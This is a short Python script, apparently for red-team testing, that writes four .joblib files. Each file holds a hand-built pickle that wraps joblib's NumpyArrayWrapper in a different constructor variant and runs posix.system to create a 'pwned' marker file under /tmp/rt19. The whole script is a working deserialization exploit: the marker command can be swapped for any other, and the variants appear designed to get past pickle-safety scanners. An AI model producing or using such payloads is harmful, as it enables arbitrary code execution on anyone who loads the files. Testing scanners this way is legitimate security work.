import struct, sys
def wrapper_state():
    return (b"}(X\x08\x00\x00\x00subclasscnumpy\nndarray\n"
            b"X\x05\x00\x00\x00shape" b"K\x05\x85"
            b"X\x05\x00\x00\x00orderX\x01\x00\x00\x00C"
            b"X\x05\x00\x00\x00dtypecnumpy\ndtype\n(X\x02\x00\x00\x00u1\x89\x88tR"
            b"(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
            b"X\n\x00\x00\x00allow_mmap\x89"
            b"X\x1b\x00\x00\x00numpy_array_alignment_bytesN"
            b"ub")
def make(ctor, tag):
    payload = b"0cposix\nsystem\n(X" + struct.pack('<I', len(f"touch /tmp/rt19/pwned_{tag}")) + f"touch /tmp/rt19/pwned_{tag}".encode() + b"tR"
    arr = b"B" + struct.pack('<I', len(payload))
    return b"\x80\x02" + ctor + wrapper_state() + arr + payload + b"."
W = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
variants = {
 'jl_reconstructor': b"ccopyreg\n_reconstructor\n(" + W + b"cbuiltins\nobject\nNtR",
 'jl_newobj_fn': b"ccopyreg\n__newobj__\n(" + W + b"tR",
 'jl_bitgen': b"cnumpy.random._pickle\n__bit_generator_ctor\n(" + W + b"tR",
 'jl_newobj_op': W + b")\x81",
}
for k,c in variants.items():
    open(k+'.joblib','wb').write(make(c,k))
